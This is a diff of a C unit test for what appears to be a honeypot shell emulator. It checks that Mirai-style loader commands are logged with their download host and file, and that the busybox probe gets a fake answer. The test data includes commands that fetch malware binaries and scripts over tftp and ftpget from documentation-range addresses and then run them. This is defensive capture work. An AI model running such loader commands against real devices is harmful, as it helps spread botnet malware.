@@ -276,6 +276,9 @@ test_shell_mirai_loader(void **state)
 	run("/bin/busybox tftp -g -l dvrHelper -r mirai.mips 192.0.2.8");
 	assert_non_null(p = strstr(rec.fields[rec.n - 1], "tftp://192.0.2.8"));
 	assert_non_null(strstr(p, "mirai.mips"));
+	assert_non_null(strstr(rec.fields[rec.n - 1], "\"host\":\"192.0.2.8\",\"file\":\"mirai.mips\""));
+	run("ftpget -u a -p b -P 2121 192.0.2.9 local.sh bins/x.sh");
+	assert_non_null(strstr(rec.fields[rec.n - 1], "\"host\":\"192.0.2.9:2121\",\"file\":\"bins/x.sh\""));
 	o = run("./dvrHelper telnet.arm7; /bin/busybox IHCCE");
 	assert_string_equal(o, "IHCCE: applet not found\nroot@router:/var# ");
 	assert_null(memmem(rec.out.data, rec.out.len, "ncorrect", 8));
